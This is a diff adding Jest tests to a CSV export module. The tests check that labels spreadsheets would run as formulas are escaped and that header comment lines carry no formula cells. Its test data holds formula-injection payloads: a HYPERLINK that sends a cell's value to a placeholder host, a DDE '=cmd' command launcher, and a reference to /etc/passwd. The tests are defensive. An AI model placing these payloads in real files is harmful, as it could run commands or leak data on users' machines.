@@ -55,6 +55,46 @@ describe('CSV', () => {
     expect(cellsOf(text)[1]).toEqual(['0', label, '1'])
   })
 
+  it.each([
+    ['=HYPERLINK("http://a.example/"&A1,"x")', true],
+    ["=cmd|'/C calc'!A0", true],
+    ["='file:///etc/passwd'#$a.A1", true],
+    ['@SUM(A1)', true],
+    ['\t=f(1)', true],
+    ['-1+f(2)', true],
+    ['=', false],
+    ['-', false],
+    ['+5', false],
+    ['=(', false],
+    ['@user', false],
+    ['f(x)', false]
+  ])('keeps spreadsheets from running the label %j as a formula: %j', (label, isFormula) => {
+    const given = dataset({ token: axis([label]) }, { value: variable(['token'], 1) })
+    expect(cellsOf(csvOf(given).join(''))[1]).toEqual(['0', isFormula ? `'${label}` : label, '1'])
+  })
+
+  it('says before the table nothing that is a cell of its own with a formula, or a line', () => {
+    const given = dataset(
+      { token: axis(1) },
+      { value: variable(['token'], 1) },
+      {
+        'name\n=f(1),=g(1)': 'x',
+        from: ['Model: a,=f(1)', 'Model: b; "@g(1)', 'Text: a,-b|c', 'Tokens: [1,-2], -x'],
+        params: { ids: [0, -1, -2.5e-7], text: ',+f(1)' }
+      }
+    )
+    const lines = [...csvFile(given, tablePlan(given))].join('').split('\r\n')
+    const told = lines.filter(line => line.startsWith('# ')).map(line => line.slice(2))
+    expect(told).toHaveLength(lines.length - 3)
+    for (const line of told)
+      for (const cell of line.split(/[,;]/).slice(1))
+        expect(cell).not.toMatch(/^["'\s]*[=+@-](?!\d+(\.\d+)?(e-\d+)?([,\]}]|$))/)
+    expect(
+      told.slice(1, -1).map(line => JSON.parse(line.slice('from: '.length)) as unknown)
+    ).toEqual(given.attributes['from'])
+    expect(JSON.parse(told.at(-1)!.slice('params: '.length))).toEqual(given.attributes['params'])
+  })
+
   it('in a file says before the table what is true of all of it, a line each', () => {
     const given = dataset(
       { token: axis(['# a']) },
